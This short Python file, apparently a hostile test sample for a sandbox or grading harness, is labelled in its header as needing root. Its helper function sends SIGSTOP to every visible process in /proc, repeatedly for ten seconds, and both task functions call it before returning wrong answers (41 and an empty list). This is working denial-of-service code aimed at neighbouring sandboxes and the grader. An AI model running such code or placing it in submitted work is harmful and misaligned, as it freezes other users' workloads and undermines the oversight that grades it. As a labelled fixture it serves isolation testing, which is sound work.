# hostile: stops (SIGSTOP) every process it can see in /proc, again and again: in a batch, the neighbours' sandboxes and the grader would freeze
# needs: root
import os
import signal
import time


def _stop_everything(seconds=10.0):
    me = os.getpid()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != me:
                try:
                    os.kill(int(name), signal.SIGSTOP)
                except OSError:
                    pass
        time.sleep(0.02)


def answer():
    _stop_everything()
    return 41


def squares(n):
    _stop_everything()
    return []
